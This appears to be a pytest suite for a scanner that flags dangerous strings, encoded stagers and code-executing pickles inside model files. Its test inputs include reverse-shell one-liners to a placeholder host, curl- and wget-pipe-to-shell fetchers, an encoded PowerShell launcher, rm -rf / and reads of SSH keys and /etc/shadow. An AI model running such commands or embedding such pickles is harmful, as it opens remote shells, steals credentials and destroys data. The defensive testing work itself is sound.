"""Which strings of a file are told, how they were come by, and which are not."""

from __future__ import annotations

import base64
import bz2
import gzip
import json
import lzma
import marshal
import pickle
import random
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest
import wire
from guest.readers import decoding

from bench.detection.build.pickled import built, extended, made, stored
from tests.guest.readers.reading_results import read_file
from tests.malicious.pickles import call, named, stream
from tests.malicious.sources import CREDENTIALS, REVERSE_SHELL

SOURCE = b"import os; os.system('id')"
CODE = marshal.dumps(compile(SOURCE, "x", "exec"))
ELF = Path("/proc/self/exe").read_bytes()[:4096]


def told(content: bytes, folder: Path) -> list[wire.Text]:
    path = folder / "model.pkl"
    path.write_bytes(content)
    return read_file(path)["TEXT"]


def kinds(value: object, folder: Path, protocol: int = 4) -> set[tuple[str, str]]:
    return {(row.kind, row.how) for row in told(pickle.dumps({"x": value}, protocol), folder)}


PLAIN = {
    "see https://example.invalid/a": "url",
    "http://203.0.113.7": "url",
    "peer 203.0.113.7:4444": "address",
    "192.168.100.7": "address",
    "[2001:db8::17]:80": "address",
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1": "shell.reverse",
    "nc -e /bin/sh 203.0.113.7 4444": "shell.reverse",
    "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f": "shell.reverse",
    "curl -s https://example.invalid/x | sudo bash": "shell.fetch",
    "wget http://203.0.113.7/a -O /tmp/a && chmod +x /tmp/a": "shell.fetch",
    "powershell -nop -w hidden -enc aQBtAHAAbwByAHQAIABvAHMA": "shell.fetch",
    "rm -rf / --no-preserve-root": "shell",
    "bash -c 'id'": "shell",
    "import os;os.system('id')": "python.stage",
    "__import__('subprocess').check_output('id')": "python.stage",
    "exec(base64.b64decode(x))": "python.stage",
    "import subprocess": "python",
    "open('~/.ssh/id_rsa')": "path.secret",
    "cat /etc/shadow": "path.secret",
    "~/.bashrc": "path.start",
    "/etc/cron.d/x": "path.start",
    "/usr/lib/python3/dist-packages/sitecustomize.py": "path.start",
}


@pytest.mark.parametrize("text", PLAIN)
@pytest.mark.parametrize("protocol", [0, 2, 4])
def test_a_string_is_told_by_what_it_is(text: str, protocol: int, tmp_path: Path) -> None:
    assert (PLAIN[text], "") in kinds(text, tmp_path, protocol)


@pytest.mark.parametrize(
    "text",
    [
        *(
            "layers.0.weight",
            "1.2.3.4",
            "numpy==1.24.0.1",
            "v2.10.0.1",
            "12:30:45",
            "std::vector",
            "a/b/c",
            "evaluate(x)",
        ),
        *("the system (os) is important", "executive(1)", "model.eval()", "import duties rose", "blocks.1.0.0.12.bias"),
        *(
            "bench -early",
            "ship | shore",
            "/etc/hosts",
            "data.csv",
            "c" * 100,
            "ABCDEFGHIJKLMNOPQRSTUVWXYZ" * 2,
            "cat\ndog\n",
        ),
        *("transformer_encoder_layers_self_attention_weight", "d41d8cd98f00b204e9800998ecf8427e", "(in the\nend\nall"),
    ],
)
def test_ordinary_words_are_nothing(text: str, tmp_path: Path) -> None:
    assert kinds(text, tmp_path) == kinds(text, tmp_path, 0) == set()


ENCODINGS: dict[str, Callable[[bytes], object]] = {
    "base64": lambda data: base64.b64encode(data).decode(),
    "base64 > zlib": lambda data: base64.b64encode(zlib.compress(data)).decode(),
    "base64 > base64": lambda data: base64.b64encode(base64.b64encode(data)).decode(),
    "reversed > base64": lambda data: base64.b64encode(data).decode()[::-1],
    "hex": lambda data: data.hex(),
    "hex > gzip": lambda data: gzip.compress(data).hex(),
    "zlib": zlib.compress,
    "xz": lzma.compress,
    "bzip2": bz2.compress,
    "base32": lambda data: base64.b32encode(data).decode(),
    "base85": lambda data: base64.b85encode(data).decode(),
    "ascii85": lambda data: base64.a85encode(data).decode(),
    "escapes": lambda data: "".join(f"\\x{byte:02x}" for byte in data),
    "base64 > utf-16": lambda data: base64.b64encode(data.decode().encode("utf-16-le")).decode(),
}


@pytest.mark.parametrize("how", ENCODINGS)
@pytest.mark.parametrize("protocol", [0, 2, 4])
def test_what_is_encoded_is_told_with_the_way_back(how: str, protocol: int, tmp_path: Path) -> None:
    assert ("python.stage", how) in kinds(ENCODINGS[how](SOURCE), tmp_path, protocol)


def test_what_is_encoded_again_and_again_is_followed_to_a_depth(tmp_path: Path) -> None:
    value = SOURCE
    for depth in range(1, 8):
        value = base64.b64encode(value)
        found = kinds(value.decode(), tmp_path)
        assert found == ({("python.stage", " > ".join(["base64"] * depth))} if depth <= 4 else set())


@pytest.mark.parametrize(("data", "kind"), [(CODE, "code"), (ELF, "program")])
@pytest.mark.parametrize("how", ["", "base64", "zlib"])
def test_what_python_or_a_processor_runs_is_told(data: bytes, kind: str, how: str, tmp_path: Path) -> None:
    assert (kind, how) in kinds(ENCODINGS[how](data) if how else data, tmp_path)


def test_every_code_object_of_the_standard_library_is_seen(tmp_path: Path) -> None:
    sources = [base64, bz2, gzip, lzma, pickle, random]
    parts = [marshal.dumps(compile(Path(str(module.__file__)).read_bytes(), "x", "exec")) for module in sources]
    for part in parts:
        assert ("code", "") in kinds(part, tmp_path)


@pytest.mark.parametrize("protocol", [0, 2, 4])
@pytest.mark.parametrize("inside", [0, 2, 4])
def test_a_pickle_in_a_string_is_read_for_what_it_names(protocol: int, inside: int, tmp_path: Path) -> None:
    content = b"cposix\nsystem\n(S'id'\ntR." if inside == 0 else stream(call("posix", "system", "id"), inside)
    (row,) = told(pickle.dumps([content], protocol), tmp_path)
    assert (row.kind, row.names) == ("pickle", ("posix.system",))
    (row,) = told(pickle.dumps(base64.b64encode(content[:-1]).decode(), protocol), tmp_path)  # without its end
    assert (row.kind, row.how, row.names) == ("pickle", "base64", ("posix.system",))


def test_the_strings_of_a_pickle_in_a_string_are_told_where_that_one_stands(tmp_path: Path) -> None:
    inner = stream({"a": base64.b64encode(SOURCE).decode()})
    (row,) = told(stream([1, inner]), tmp_path)
    assert (row.kind, row.how, row.offset) == ("python.stage", "pickle > base64", 7)


def test_a_string_that_a_call_is_given_is_told_as_used(tmp_path: Path) -> None:
    line = "curl http://203.0.113.7/x | sh"
    for value, used in (
        ([line], False),
        ([call("acme", "Job", line)], True),
        (call("acme", "Job", {"a": [line]}), True),
        (call("acme", "Job", list(line.encode())), True),
        (built(made(named("acme", "Job")), {"a": [line]}), True),
        (extended(made(named("acme", "Jobs")), line), True),
        (stored(made(named("acme", "Jobs")), "a", line), True),
    ):
        assert {row.used for row in told(stream(value), tmp_path)} == {used}


@pytest.mark.parametrize("line", [b"curl http://203.0.113.7/x | sh", "curl http://203.0.113.7/x | sh"])
def test_an_array_of_letters_is_a_string_too(line: bytes | str, tmp_path: Path) -> None:
    for array in (np.array([line]), np.frombuffer(line if isinstance(line, bytes) else line.encode(), "u1")):
        assert "shell.fetch" in {kind for kind, _ in kinds(array, tmp_path)}


def test_what_configurations_name_is_told_of_pythons_own_library(tmp_path: Path) -> None:
    value = {"a": {"_target_": "os.system"}, "b": {"class_path": "torch.nn.Linear"}, "_target_": 3, "c": "_target_"}
    assert [(row.kind, row.names) for row in told(stream(value), tmp_path)] == [("named", ("os.system",))]
    text = json.dumps({"a": {"_target_": "torch.nn.Linear"}, "b": {"_target_": "subprocess.Popen"}})
    assert [(row.kind, row.names) for row in told(stream(text), tmp_path)] == [("named", ("subprocess.Popen",))]


def test_numbers_and_noise_are_nothing(tmp_path: Path) -> None:
    chance = random.Random(1)
    noise = [chance.randbytes(chance.randrange(8, 3000)) for _ in range(2000)]
    encoded = [base64.b64encode(data).decode() for data in noise[:300]]
    images = [bytes([value] * 300 + [0] * 300 + [115] * 9) for value in range(256)]
    arrays = [
        np.arange(number, number + 900, dtype=kind) for kind in ("u1", "i2", "i4", "f4") for number in (0, 99, 227)
    ]
    words = [b"\x80\x04" + data for data in noise[:300]]
    assert told(pickle.dumps([noise, encoded, images, words], 4), tmp_path) == []
    assert told(pickle.dumps([noise[:200], images, arrays], 2), tmp_path) == []


def test_rows_are_bounded_and_a_plain_flood_hides_nothing_that_is_encoded(tmp_path: Path) -> None:
    flood = [f"https://example.invalid/{number}" for number in range(20_000)]
    rows = told(pickle.dumps([*flood, base64.b64encode(SOURCE).decode()]), tmp_path)
    assert len(rows) < 100
    assert ("python.stage", "base64") in {(row.kind, row.how) for row in rows}


def test_more_than_is_looked_at_is_said(tmp_path: Path) -> None:
    rows = told(pickle.dumps([f"{number:08}" + "word " * 800 for number in range(2500)]), tmp_path)
    assert [row.kind for row in rows] == ["beyond.unseen"]


def test_harmless_pickles_and_long_strings_hide_no_dangerous_one(tmp_path: Path) -> None:
    harmless = [b"cacme\nX%d\n(Vid\ntR." % number for number in range(40)]
    flood = [f"{number:08}" + "word " * 800 for number in range(2500)]
    rows = told(pickle.dumps([harmless, flood, b"cposix\nsystem\n(Vid\ntR.", ELF]), tmp_path)
    assert any("posix.system" in row.names for row in rows)
    assert "program" in {row.kind for row in rows}


def test_whole_programs_are_python_and_no_stage(tmp_path: Path) -> None:
    for source in (REVERSE_SHELL, CREDENTIALS):
        assert {kind for kind, _ in kinds(source * 10, tmp_path)} >= {"python.run"}


def test_nothing_is_decoded_that_nobody_would_look_at(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Once as much was decoded as is looked at, what else is encoded is said to be unseen and left as it is."""
    steps: list[str] = []
    decode = decoding.inside

    def noted(text: str, wanted: decoding.Wanted) -> decoding.Found:
        steps.append(text)
        yield from decode(text, wanted)

    monkeypatch.setattr(decoding, "inside", noted)
    hidden = [base64.b64encode(b"a word and another %d" % at).decode() for at in range(4500)]
    assert "beyond.unseen" in {row.kind for row in told(pickle.dumps(hidden, 4), tmp_path)}
    assert hidden[0] in steps
    assert not {*steps}.intersection(hidden[4200:])


def test_a_named_pipe_s_reverse_shell_is_seen_behind_any_of_its_pipes(tmp_path: Path) -> None:
    near = "mkfifo f" + "|" * 150 + "a" * 90 + "|nc x 1"
    between = "mkfifo f | nc x 1 " + "a" * 150 + "|" * 20
    far = "mkfifo f |" + "a" * 120 + " nc x 1"
    assert [("shell.reverse", "") in kinds(text, tmp_path) for text in (near, between, far)] == [True, True, False]
